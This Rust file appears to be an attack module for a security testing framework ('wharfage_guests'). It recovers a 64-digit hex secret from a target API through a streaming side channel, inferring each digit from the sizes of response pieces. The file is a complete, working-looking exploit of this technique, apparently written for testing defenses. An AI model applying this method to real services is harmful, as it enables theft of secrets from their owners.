//! Has an accomplice send it guesses of how a secret begins, a digit at a time, and tells by how much of each comes at once
//! whether it does: what may begin a secret would wait for more.

use wharfage_guests::http::{self, Credential, Request};
use wharfage_guests::{get, json, page};

/// What stands before each guess.
const LEAD: &str = "a guess:\n";

wharfage_guests::attack!(_input => {
    let mut known = String::new();
    while known.len() < 64 {
        let request = Request { credential: Credential::Anonymous, ..get(&format!("{{api}}/{known}")) };
        let body = http::open(&request)?.body;
        let mut sizes = Vec::new();
        loop {
            let piece = body.read(1 << 10)?;
            if piece.is_empty() {
                break;
            }
            sizes.push(piece.len());
        }
        // Each guess comes in two pieces: itself, and the end of its line.
        let waits: Vec<bool> = sizes.chunks(2).map(|guess| guess[0] == LEAD.len()).collect();
        let first = waits.iter().position(|waits| *waits);
        // Where every guess waits, waiting says nothing.
        let Some(digit) = first.filter(|_| waits.contains(&false)) else { break };
        known.push_str(&format!("{digit:x}"));
    }
    Ok(page(json!({ "learned": known })))
});
